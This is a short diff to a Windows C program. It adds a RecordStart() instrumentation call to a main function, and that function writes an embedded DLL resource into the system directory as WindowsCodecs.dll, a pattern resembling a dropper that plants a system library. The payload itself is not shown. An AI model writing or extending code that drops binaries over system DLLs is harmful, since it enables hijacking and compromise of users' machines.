@@ -6,6 +6,8 @@
 #include <wchar.h>
 #include <windows.h>
 
+#include "StartRecord.h"
+
 static const wchar_t kLibraryName[] = L"\\WindowsCodecs.dll";
 
 // The DLL's bytes: resource 1 of type RCDATA, linked in by the build.
@@ -28,6 +30,7 @@ static BOOL WritePayload(const wchar_t* path, const void* bytes, DWORD size) {
 }
 
 int main(void) {
+    RecordStart();
     wchar_t path[MAX_PATH];
     const UINT folderLength = GetSystemDirectoryW(path, MAX_PATH);
     if (folderLength == 0 || folderLength + wcslen(kLibraryName) >= MAX_PATH) return 1;
